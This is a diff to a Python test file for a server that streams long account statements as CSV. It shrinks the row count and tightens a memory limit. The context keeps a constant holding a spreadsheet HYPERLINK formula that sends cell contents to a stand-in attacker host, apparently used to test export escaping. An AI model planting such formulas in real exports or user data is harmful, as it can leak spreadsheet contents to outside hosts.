@@ -14,7 +14,7 @@ from server import downloads
 from tests.ledgers import book_rows, download, lately
 from tests.work import Work
 
-ROWS = 8_000
+ROWS = 2_500
 JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
 EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'
 
@@ -144,8 +144,8 @@ async def test_who_does_not_read_is_cut_off(market, server, monkeypatch):
 
 @pytest.mark.timeout(300)
 async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
-    """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes tens
-    of megabytes. Without `response.write` of each piece the length would be known before."""
+    """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes
+    twice as much. Without `response.write` of each piece the length would be known before."""
     party = await market.contractor()
     await book_rows(server.store, ROWS, user=party.id)
     headers = {"Authorization": f"Bearer {party.token}"}
@@ -163,5 +163,5 @@ async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
     finally:
         tracemalloc.stop()
     assert lines == ROWS + 1
-    assert peak < 8_000_000
+    assert peak < 2_000_000
     assert last.endswith(b",0\r\n")  # the balance: all that came in was paid out
